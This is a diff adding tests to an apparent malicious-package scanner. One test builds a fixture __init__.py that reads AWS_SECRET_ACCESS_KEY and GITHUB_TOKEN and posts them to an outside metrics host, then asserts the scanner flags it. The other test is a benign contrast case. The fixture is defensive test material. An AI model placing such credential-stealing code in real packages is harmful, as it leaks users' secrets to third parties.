@@ -1182,3 +1182,22 @@ def test_benign_dns_lookups_of_host_names_carry_nothing() -> None:
             return socket.gethostbyname(host), socket.getaddrinfo(f"{SERVICE}.internal.example.com", 443)
     """
     assert flows_of(source) == []
+
+
+def test_secret_variables_read_by_a_loop_over_their_names_are_credentials(tmp_path: Path) -> None:
+    init = (
+        "import os, requests\n"
+        "NAMES = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'HOME']\n"
+        "requests.post('https://metrics.acme-stats.com/i', json={n: os.getenv(n, '') for n in NAMES})\n"
+    )
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
+    assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_benign_loop_over_ordinary_variable_names_reads_no_credential() -> None:
+    source = """
+        import os, requests
+        NAMES = ["HOME", "LANG", "TERM"]
+        requests.post("https://metrics.example.org/i", json={n: os.getenv(n, "") for n in NAMES})
+    """
+    assert {f.source for f in flows_of(source)} <= {Source.REQUEST}
